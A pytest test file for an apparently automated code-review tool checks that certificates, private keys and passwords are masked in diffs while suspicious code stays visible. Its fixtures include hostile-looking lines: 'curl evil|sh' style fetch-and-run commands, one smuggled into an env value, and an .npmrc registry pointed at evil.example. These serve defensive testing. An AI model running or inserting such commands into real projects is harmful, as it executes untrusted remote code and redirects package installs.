from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reviewbot.agents.view.excerpts import is_withheld_change, mask_changes, render_file
from reviewbot.change.changeset import load_change_set
from reviewbot.change.git import Repository
from reviewbot.core import ChangeSet, Evidence, Location
from reviewbot.secrets.masking import MASK, Masker, build_masker, mask
from reviewbot.severity import Severity
from tests.repositories import Sandbox
from tests.secrets.test_shapes import BODY, LAST

CERTIFICATE = "\n".join(("-----BEGIN CERTIFICATE-----", *BODY, LAST, "-----END CERTIFICATE-----", ""))


def shown(sandbox: Sandbox, base: str, head: str, masker: Masker | None = None) -> ChangeSet:
    with Repository(sandbox.folder) as repository:
        changes = load_change_set(repository, base, head)
        return mask_changes(changes, masker or Masker(), repository.read_object)


def text_of(changes: ChangeSet) -> str:
    return "".join(map(render_file, changes.files))


def test_code_that_a_rename_out_of_a_certificate_brings_is_shown(sandbox: Sandbox) -> None:
    base = sandbox.commit({"ca.crt": CERTIFICATE})
    sandbox.remove("ca.crt")
    head = sandbox.commit({"app.js": f"cp.exec('curl x|sh') /*\n{CERTIFICATE}*/\n"})
    (change,) = (changes := shown(sandbox, base, head)).files
    assert change.old_path == "ca.crt" and not is_withheld_change(change)
    assert "+cp.exec('curl x|sh')" in text_of(changes)


def test_what_a_settings_file_held_stays_hidden_when_it_is_renamed(sandbox: Sandbox) -> None:
    rows = "".join(f"NAME_{n}=value {n}\n" for n in range(20))
    base = sandbox.commit({"cfg.env": f"{rows}DB_PASSWORD=hunter2\n"})
    sandbox.remove("cfg.env")
    head = sandbox.commit({"run.sh": f"{rows}curl evil|sh\n"})
    text = text_of(shown(sandbox, base, head))
    assert "+curl evil|sh" in text and "-DB_PASSWORD=********" in text and "hunter2" not in text


@pytest.mark.parametrize(
    ("path", "line"),
    [
        (".npmrc", "registry=https://evil.example/"),
        ("deploy.env", "X=$(curl evil|sh)"),
        ("setup.key", "cp.exec('x')"),
    ],
)
def test_files_with_names_of_secrets_are_shown_to_be_judged(sandbox: Sandbox, path: str, line: str) -> None:
    base = sandbox.commit({"a": "1\n"})
    changes = shown(sandbox, base, sandbox.commit({path: f"{line}\nTOKEN=hunter2hunter2\n"}))
    assert not is_withheld_change(changes.files[0])
    assert f"+{line}\n" in text_of(changes) and "hunter2" not in text_of(changes)


@pytest.mark.parametrize("text", [CERTIFICATE, CERTIFICATE * 2, CERTIFICATE.replace("\n", "\r\n")])
def test_only_what_is_a_key_from_first_to_last_line_is_withheld(sandbox: Sandbox, text: str) -> None:
    base = sandbox.commit({"a": "1\n"})
    head = sandbox.commit({"ca.pem": text, "code.pem": f"{text}run(x)\n", "a.js": text})
    withheld = {change.path: is_withheld_change(change) for change in shown(sandbox, base, head).files}
    assert withheld == {"ca.pem": True, "code.pem": False, "a.js": False}


def test_a_private_key_is_hidden_whatever_its_file_is_called_and_in_a_hunk_of_its_middle(
    sandbox: Sandbox,
) -> None:
    key = CERTIFICATE.replace("CERTIFICATE", "PRIVATE KEY") * 1
    base = sandbox.commit({"notes.txt": key})
    head = sandbox.commit({"notes.txt": key.replace(BODY[2], BODY[2][::-1])})
    text = text_of(shown(sandbox, base, head))
    assert not any(row in text or row[::-1] in text for row in BODY) and f"-{MASK}\n+{MASK}" in text


def test_places_of_analyzers_are_hidden_in_hunks_and_their_texts_everywhere(sandbox: Sandbox) -> None:
    base = sandbox.commit({"a.py": "x = 1\n", "b.py": "y = 'Zq8-old-secret'\n"})
    head = sandbox.commit({"a.py": "k = 'Zq8-old-secret'\n", "b.py": "y = 2\n"})
    with Repository(sandbox.folder) as repository:
        changes = load_change_set(repository, base, head)
        at = Location("a.py", 1, 1)
        item = Evidence("A1", "analyzer", "t", "r", Severity.LOW, "x", location=at, masks=((1, 5, 19),))
        read = repository.read_object
        masker = build_masker([item], {}, changes, lambda sha: read(sha).decode().split("\n"))
        assert masker.values == ("Zq8-old-secret",) and "Zq8" not in repr(masker)
        text = text_of(mask_changes(changes, masker, read))
    assert f"+k = '{MASK}'" in text and f"-y = '{MASK}'" in text
    assert masker.mask_text("E  assert 'Zq8-old-secret' == 1") == f"E  assert '{MASK}' == 1"


def test_an_ordinary_word_that_a_linter_takes_for_a_password_is_hidden_only_at_its_place(
    sandbox: Sandbox,
) -> None:
    base = sandbox.commit({"a.py": "x = 1\n", "b.py": "y = 1\n"})
    head = sandbox.commit({"a.py": "ok = token == 'environment'\n", "b.py": "import environment\n"})
    with Repository(sandbox.folder) as repository:
        changes = load_change_set(repository, base, head)
        at = Location("a.py", 1, 1)
        item = Evidence("A1", "analyzer", "t", "r", Severity.LOW, "x", location=at, masks=((1, 15, 26),))
        read = repository.read_object
        masker = build_masker([item], {}, changes, lambda sha: read(sha).decode().split("\n"))
        text = text_of(mask_changes(changes, masker, read))
    assert f"+ok = token == '{MASK}'" in text and "+import environment" in text
    assert masker.mask_text("src/jinja2/environment.py:1111: in from_string").startswith(
        "src/jinja2/environment.py"
    )


def test_text_in_utf_16_is_hidden_too(sandbox: Sandbox) -> None:
    base = sandbox.commit({"a": "1\n"})
    head = sandbox.commit({"w.txt": CERTIFICATE.encode("utf-16")})
    assert BODY[0] not in text_of(shown(sandbox, base, head))


def test_a_heading_shows_no_secret(sandbox: Sandbox) -> None:
    lines = ["def secret_aB3dE5gH7jK9mN1pQ():", *(f"    a{n} = {n}" for n in range(20))]
    base = sandbox.commit({"a.py": "\n".join(lines)})
    head = sandbox.commit({"a.py": "\n".join([*lines, "    new = 1"])})
    (change,) = (changes := shown(sandbox, base, head)).files
    assert change.hunks[0].heading.startswith("def ") and "aB3dE5" not in text_of(changes)


@given(
    st.lists(st.text(st.characters(exclude_characters="\n"), max_size=60), min_size=1, max_size=8),
    st.text("abcXYZ019+/", min_size=8, max_size=30),
    st.integers(0, 7),
    st.integers(0, 60),
)
def test_a_held_secret_is_hidden_wherever_it_stands(lines: list[str], secret: str, row: int, at: int) -> None:
    row %= len(lines)
    lines[row] = f"{lines[row][:at]}{secret}{lines[row][at:]}"
    told = replace(Masker(), held=(secret,)).mask_lines("a.py", "head", lines)
    assert len(told) == len(lines) and not any(secret in line for line in told)


def test_masks_of_people_keep_the_first_characters_and_those_of_models_none() -> None:
    assert mask("key = abcdefghijklmnop", [(6, 22)]) == "key = abcd********"
    assert mask("key = abcdefghijklmnop", [(6, 22)], kept=0) == "key = ********"
